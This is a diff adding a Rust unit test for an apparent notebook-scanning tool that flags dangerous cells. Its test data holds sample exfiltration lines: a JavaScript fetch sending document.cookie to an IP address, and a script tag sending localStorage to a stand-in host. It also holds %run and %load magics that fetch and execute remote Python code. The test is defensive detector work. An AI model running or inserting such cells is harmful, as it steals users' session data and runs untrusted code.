@@ -84,6 +84,33 @@ fn a_known_installer_and_a_quoted_handler_are_less() {
 }
 
 #[test]
+fn notebooks_that_take_code_or_give_away_are_told() {
+    let dangers = |source: &str| list(&notebook("code", &serde_json::json!(source), ""), DANGERS);
+    for (source, told) in [
+        ("%%javascript\nfetch('http://203.0.113.9/' + document.cookie)", "cell_gives_away"),
+        ("\n%%html\n<script>new Image().src = 'https://x.example.com/' + localStorage.a</script>", "cell_gives_away"),
+        ("x = 1\n%run http://203.0.113.9/x.py", "fetched"),
+        ("%run -i http://x.example.com/x.py", "fetched"),
+        ("%load http://203.0.113.9/x.py", "fetched"),
+        ("%run https://x.example.com/x.py", "script"),
+    ] {
+        assert_eq!(dangers(source), [told], "{source}");
+    }
+    for quiet in [
+        "%%javascript\nelement.append(document.title); fetch('/api')",
+        "%%js\nlocalStorage.setItem('a', 1)",
+        "%load https://x.example.com/examples/plot.py",
+        "%load http://x.example.com/examples/plot.py",
+        "# %load http://203.0.113.9/x.py",
+        "%run train.py --url http://203.0.113.9:5000",
+        "%run train.py\n%load_ext autoreload",
+        "%env A=http://203.0.113.9",
+    ] {
+        assert!(dangers(quiet).is_empty(), "{quiet}");
+    }
+}
+
+#[test]
 fn ordinary_notebooks_are_silent() {
     for (kind, source) in [
         ("code", "!pip install -q numpy\n!nvidia-smi\n%matplotlib inline\nimport numpy as np\nprint(np.e)"),
